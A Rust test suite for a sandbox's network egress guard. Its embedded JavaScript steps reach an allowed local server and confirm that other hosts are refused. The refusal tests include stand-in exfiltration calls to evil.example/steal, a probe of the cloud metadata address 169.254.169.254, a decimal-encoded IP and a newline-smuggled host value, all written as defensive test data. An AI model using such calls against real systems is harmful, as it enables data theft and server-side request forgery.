//! The way out: unmodified clients reach what the rules and the guard allow, and nothing else.

use crate::support::*;
use causeway_net::{AllowedRange, Guard, GuardConfig, Resolve, Resolving};
use causeway_sandbox::*;
use serde_json::{Value, json};
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::sync::Arc;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio_rustls::TlsAcceptor;
use tokio_rustls::rustls::{self, pki_types::PrivateKeyDer};

/// Every name is this machine.
struct Loopback;

impl Resolve for Loopback {
    fn resolve<'a>(&'a self, _name: &'a str) -> Resolving<'a> {
        Box::pin(async { Ok(vec![IpAddr::from([127, 0, 0, 1])]) })
    }
}

/// An HTTP server that tells what it was asked, in clear and, by one name, in TLS.
pub(crate) struct Server {
    pub(crate) clear: u16,
    pub(crate) secure: u16,
    pub(crate) ca: String,
}

pub(crate) async fn serve(name: &str) -> Server {
    let key = rcgen::generate_simple_self_signed(vec![name.to_owned()]).unwrap();
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let private = PrivateKeyDer::try_from(key.signing_key.serialize_der()).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![key.cert.der().clone()], private)
        .unwrap();
    let acceptor = TlsAcceptor::from(Arc::new(config));
    let (clear, secure) = (bind().await, bind().await);
    let ports = (clear.local_addr().unwrap().port(), secure.local_addr().unwrap().port());
    tokio::spawn(async move {
        loop {
            let (socket, _) = clear.accept().await.unwrap();
            tokio::spawn(answer(socket));
        }
    });
    tokio::spawn(async move {
        loop {
            let (socket, _) = secure.accept().await.unwrap();
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                if let Ok(socket) = acceptor.accept(socket).await {
                    answer(socket).await;
                }
            });
        }
    });
    Server { clear: ports.0, secure: ports.1, ca: key.cert.pem() }
}

async fn bind() -> TcpListener {
    TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap()
}

/// Answers requests on one connection until it ends.
async fn answer(mut socket: impl AsyncRead + AsyncWrite + Unpin) {
    let mut received = Vec::new();
    loop {
        let end = loop {
            if let Some(at) = received.windows(4).position(|four| four == b"\r\n\r\n") {
                break at + 4;
            }
            match socket.read_buf(&mut received).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        };
        let head = String::from_utf8_lossy(&received[..end]).into_owned();
        let header = |name: &str| {
            head.lines().find_map(|line| {
                line.to_lowercase().strip_prefix(&format!("{name}: ")).map(str::to_owned)
            })
        };
        let length: usize = header("content-length").map_or(0, |length| length.parse().unwrap());
        while received.len() < end + length {
            if socket.read_buf(&mut received).await.unwrap_or(0) == 0 {
                return;
            }
        }
        let sent = String::from_utf8_lossy(&received[end..end + length]).into_owned();
        received.drain(..end + length);
        let body = if head.contains("/big") {
            "b".repeat(3_000_000)
        } else {
            json!({ "line": head.lines().next(), "host": header("host"), "sent": sent }).to_string()
        };
        let reply = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        );
        if socket.write_all(reply.as_bytes()).await.is_err() {
            return;
        }
    }
}

pub(crate) async fn guarded(server: &Server) -> Pool {
    let here = IpAddr::from([127, 0, 0, 1]);
    let allow =
        vec![AllowedRange::single(here, server.clear), AllowedRange::single(here, server.secure)];
    let guard = Guard::new(GuardConfig { allow, ..GuardConfig::default() }, Loopback);
    Pool::new(config(), Arc::new(GuardedEgress::new(guard))).await.unwrap()
}

/// Runs a step that may reach `app.test` and `other.test`; it finds the server in its event.
async fn ask(pool: &Pool, server: &Server, code: &str, files: Vec<SourceFile>) -> StepReport {
    let mut program = program(&[("step.mjs", code)]);
    Arc::make_mut(&mut program.files).extend(files);
    program.egress =
        EgressRules::parse(["app.test", "*.other.test", "169.254.169.254", "127.0.0.1"]).unwrap();
    let mut session = pool.checkout(&Arc::new(program)).await.unwrap();
    let mut call = call("step.mjs");
    let event = json!({ "clear": server.clear, "secure": server.secure, "ca": server.ca });
    call.event = Arc::from(raw(&event.to_string()));
    session.step(call).await
}

/// Of Google's hundreds of APIs the tests use one, and no step reads declarations or source maps.
fn is_used(path: &Path) -> bool {
    let text = path.to_str().unwrap();
    let is_other_api = text
        .split_once("googleapis/build/src/apis/")
        .is_some_and(|(_, api)| !api.starts_with("sheets"));
    let is_for_editors = [".d.ts", ".map", ".md"].iter().any(|end| text.ends_with(end));
    !is_other_api && !is_for_editors
}

/// The files in the clients' `node_modules` that the tests use.
pub(crate) fn modules() -> Vec<SourceFile> {
    let base = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/clients");
    let folder = base.join("node_modules");
    assert!(
        folder.exists(),
        "no clients at {}: run `npm ci --prefix crates/sandbox/tests/fixtures/clients`",
        folder.display()
    );
    let (mut files, mut open) = (Vec::new(), vec![folder]);
    while let Some(folder) = open.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path);
            } else if is_used(&path) {
                let name = path.strip_prefix(&base).unwrap().to_str().unwrap().to_owned();
                files.push(SourceFile { path: name, contents: std::fs::read(&path).unwrap() });
            }
        }
    }
    files
}

#[tokio::test]
async fn nodes_own_clients_reach_an_allowed_host() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = r"
import net from 'node:net'; import http from 'node:http'; import https from 'node:https'; import tls, { connect } from 'node:tls';
import { createConnection } from 'node:net';
const text = (stream) => new Promise((ok, no) => { let all = ''; stream.setEncoding('utf8'); stream.on('data', (d) => all += d); stream.on('end', () => ok(all)); stream.on('error', no) });
const get = (module, options) => new Promise((ok, no) => module.get(options, (r) => text(r).then((t) => ok(JSON.parse(t)), no)).on('error', no));
const raw = (socket, event) => new Promise((ok, no) => {
  const events = []; for (const e of ['lookup', 'connect', 'ready', 'secureConnect']) socket.on(e, () => events.push(e));
  socket.write('GET /raw HTTP/1.1\r\n'); socket.write('host: app.test\r\nconnection: close\r\n\r\n');
  let all = ''; socket.on('data', (d) => { all += d; if (all.includes('}')) { socket.end(); ok({ events, ok: all.startsWith('HTTP/1.1 200'), address: socket.remoteAddress, port: socket.remotePort, authorized: socket.authorized }) } });
  socket.on('error', no); });
export default async ({ event: { clear, secure, ca } }) => ({
  net: await raw(net.connect(clear, 'app.test')),
  net2: await raw(createConnection({ host: 'app.test', port: String(clear) })),
  tls: await raw(tls.connect({ host: 'app.test', port: secure, ca })),
  tls2: await raw(connect(secure, 'app.test', { ca, servername: 'app.test', ALPNProtocols: ['http/1.1'] })),
  http: await get(http, { host: 'app.test', port: clear, path: '/a', agent: new http.Agent({ keepAlive: true }) }),
  url: await get(http, `http://app.test:${clear}/b`),
  https: await get(https, { host: 'app.test', port: secure, path: '/c', ca }),
  fetch: await (await fetch(`http://app.test:${clear}/d`, { method: 'POST', body: 'hello' })).json(),
  below: await (await fetch(`http://deep.other.test:${clear}/e`)).json(),
  address: await (await fetch(`http://127.0.0.1:${clear}/f`)).json(),
  big: (await (await fetch(`http://app.test:${clear}/big`)).text()).length,
  many: (await Promise.all(Array.from({ length: 40 }, (_, i) => fetch(`http://app.test:${clear}/${i}`).then((r) => r.json())))).length,
});";
    let report = ask(&pool, &server, code, Vec::new()).await;
    let got = value(&report);
    let host = format!("app.test:{}", server.clear);
    for key in ["net", "net2"] {
        assert_eq!(
            got[key],
            json!({ "events": ["connect", "ready"], "ok": true, "address": "127.0.0.1", "port": server.clear }),
            "{key}"
        );
    }
    for key in ["tls", "tls2"] {
        assert_eq!(got[key]["ok"], true, "{key}");
        assert_eq!(got[key]["authorized"], true, "{key}");
        assert_eq!(got[key]["address"], "127.0.0.1", "{key}");
        assert!(got[key]["events"].as_array().unwrap().contains(&json!("secureConnect")), "{key}");
    }
    assert_eq!(got["http"], json!({ "line": "GET /a HTTP/1.1", "host": host, "sent": "" }));
    assert_eq!(got["url"]["line"], "GET /b HTTP/1.1");
    assert_eq!(got["https"]["line"], "GET /c HTTP/1.1");
    assert_eq!(got["fetch"], json!({ "line": "POST /d HTTP/1.1", "host": host, "sent": "hello" }));
    assert_eq!(
        (&got["below"]["line"], &got["address"]["line"]),
        (&json!("GET /e HTTP/1.1"), &json!("GET /f HTTP/1.1"))
    );
    assert_eq!((&got["big"], &got["many"]), (&json!(3_000_000), &json!(40)));
}

#[tokio::test]
async fn libraries_that_users_bring_work_unmodified() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = r"
import axios from 'axios'; import { Agent as SecureAgent } from 'node:https'; import { request, Agent, fetch as theirs } from 'undici'; import { createRequire } from 'node:module';
const required = createRequire(import.meta.url)('axios');
export default async ({ event: { clear, secure, ca } }) => ({
  axios: (await axios.post(`http://app.test:${clear}/axios`, { a: 1 })).data,
  axiosTls: (await axios.get(`https://app.test:${secure}/axios`, { httpsAgent: new SecureAgent({ ca, keepAlive: true }) })).data,
  required: (await required.get(`http://app.test:${clear}/required`)).data,
  undici: await (await request(`http://app.test:${clear}/undici`)).body.json(),
  undiciTls: await (await request(`https://app.test:${secure}/undici`, { dispatcher: new Agent({ connect: { ca } }) })).body.json(),
  theirs: await (await theirs(`http://app.test:${clear}/theirs`)).json(),
});";
    let report = ask(&pool, &server, code, modules()).await;
    let got = value(&report);
    assert_eq!(got["axios"]["sent"], r#"{"a":1}"#);
    for (key, line) in [
        ("axiosTls", "GET /axios HTTP/1.1"),
        ("required", "GET /required HTTP/1.1"),
        ("undici", "GET /undici HTTP/1.1"),
        ("undiciTls", "GET /undici HTTP/1.1"),
        ("theirs", "GET /theirs HTTP/1.1"),
    ] {
        assert_eq!(got[key]["line"], line, "{key}");
    }
    assert_eq!(logged(&report), Vec::<&str>::new(), "no warnings");
}

#[tokio::test]
async fn tls_is_from_end_to_end() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let unknown =
        "export default async ({ event }) => { await fetch(`https://app.test:${event.secure}/`) }";
    let failure = failed(ask(&pool, &server, unknown, Vec::new()).await, FailureCode::UserError);
    assert!(failure.message.contains("self-signed certificate"), "{}", failure.message);
    let other = "import tls from 'node:tls'; export default ({ event }) => new Promise((_, no) => tls.connect({ host: 'a.other.test', port: event.secure, ca: event.ca }).on('error', no))";
    let failure = failed(ask(&pool, &server, other, Vec::new()).await, FailureCode::UserError);
    assert!(
        failure.message.contains("Hostname/IP does not match certificate's altnames"),
        "{}",
        failure.message
    );
}

#[tokio::test]
async fn a_host_that_no_rule_names_is_refused_with_the_line_to_add() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = "export default async ({ event }) => {
      const tell = async (f) => { try { await f(); return 'reached' } catch (e) { const c = e.cause ?? e; return [c.code, c.message, c.hostname ?? null] } };
      const net = await import('node:net'); const dns = await import('node:dns/promises'); const https = await import('node:https');
      const raw = (port, host) => new Promise((ok, no) => net.connect(port, host).on('connect', ok).on('error', no));
      return { fetch: await tell(() => fetch('https://evil.example/steal')), net: await tell(() => raw(80, 'evil.example')),
        https: await tell(() => new Promise((ok, no) => https.get('https://evil.example/', ok).on('error', no))),
        parent: await tell(() => raw(80, 'other.test')), local: await tell(() => raw(event.clear, 'localhost')),
        metadata: await tell(() => fetch('http://169.254.169.254/latest/meta-data/')), decimal: await tell(() => raw(80, '2852039166')),
        port: await tell(() => raw(event.clear + 1 === event.secure ? event.clear + 2 : event.clear + 1, 'app.test')), dns: await tell(() => dns.lookup('app.test')),
        smuggle: await tell(() => raw(80, 'app.test\\nuse 1')), space: await tell(() => raw(80, 'app.test x')) } }";
    let report = ask(&pool, &server, code, Vec::new()).await;
    let got = value(&report);
    let refusal = "this workflow may not connect to evil.example: add `egress: [evil.example]` to workflow.yaml to allow it";
    for key in ["fetch", "net", "https"] {
        assert_eq!(got[key], json!(["EGRESS_REFUSED", refusal, "evil.example"]), "{key}");
    }
    for key in ["parent", "local", "decimal"] {
        assert_eq!(got[key][0], "EGRESS_REFUSED", "{key}: {}", got[key]);
    }
    // Allowed by the rules, and still refused: by the guard.
    assert_eq!(got["metadata"][0], "EGRESS_REFUSED", "{}", got["metadata"]);
    assert_ne!(got["port"], "reached");
    assert_eq!(
        got["dns"],
        json!([
            "ENOTFOUND",
            "a sandbox looks up no names: connect to app.test by name",
            "app.test"
        ])
    );
    for key in ["smuggle", "space"] {
        assert_eq!(got[key][0], "ERR_INVALID_ARG_VALUE", "{key}");
    }
    let uncaught = "export default () => fetch('https://evil.example/')";
    let failure = failed(ask(&pool, &server, uncaught, Vec::new()).await, FailureCode::UserError);
    assert_eq!(failure.message, format!("TypeError: fetch failed; caused by Error: {refusal}"));
}

#[tokio::test]
async fn the_socket_of_the_way_out_takes_nothing_else() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = r"import net from 'node:net';
      const say = (text) => new Promise((ok) => { let all = ''; const s = net.connect('/run/egress.sock', () => s.write(text)); s.on('data', (d) => all += d); s.on('close', () => ok(all)); s.on('error', () => {}); });
      export default async () => [await say('use 1\n'), await say('use 99999999999999999999999\n'), await say('GET / HTTP/1.1\r\n'), await say('x'.repeat(2000)), await say('dial 70000 app.test\n'), await say('dial 80 \n'), await say('dial x\n'), await say('\xff\xfe\n')]";
    let report = ask(&pool, &server, code, Vec::new()).await;
    let got = value(&report);
    assert_eq!(got[0], "");
    assert_eq!(got[1], "");
    assert_eq!(got[2], "");
    assert_eq!(got[3], "");
    assert_eq!(got[4], "no EGRESS_REFUSED the port is not a number from 0 to 65535\n");
    assert!(got[5].as_str().unwrap().starts_with("no EGRESS_REFUSED"), "{}", got[5]);
    assert_eq!((&got[6], &got[7]), (&Value::from(""), &Value::from("")));
}

#[tokio::test]
async fn connections_are_bounded_and_kept_ones_serve_the_next_step() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = "import net from 'node:net'; export default async ({ event }) => {
      const open = []; const tell = () => new Promise((ok) => { const s = net.connect(event.clear, 'app.test'); open.push(s); s.on('connect', () => ok('open')).on('error', (e) => ok(e.message)) });
      const all = []; for (let i = 0; i < 140; i++) all.push(await tell()); open.forEach((s) => s.destroy());
      return { open: all.filter((x) => x === 'open').length, refused: all.find((x) => x !== 'open') } }";
    let got = value(&ask(&pool, &server, code, Vec::new()).await);
    assert!((100..=128).contains(&got["open"].as_u64().unwrap()), "{got}");
    assert!(
        got["refused"].as_str().unwrap().contains("128 connections open, which is the most"),
        "{got}"
    );

    let mut program = program(&[(
        "step.mjs",
        "export default async ({ event }) => (await (await fetch(`http://app.test:${event.clear}/x`)).json()).line",
    )]);
    program.egress = EgressRules::parse(["app.test"]).unwrap();
    let program = Arc::new(program);
    for _ in 0..3 {
        let mut session = pool.checkout(&program).await.unwrap();
        let mut call = call("step.mjs");
        call.event = Arc::from(raw(&json!({ "clear": server.clear }).to_string()));
        assert_eq!(value(&session.step(call).await), "GET /x HTTP/1.1");
    }
    assert_eq!(pool.stats().warm_hits, 2);
}
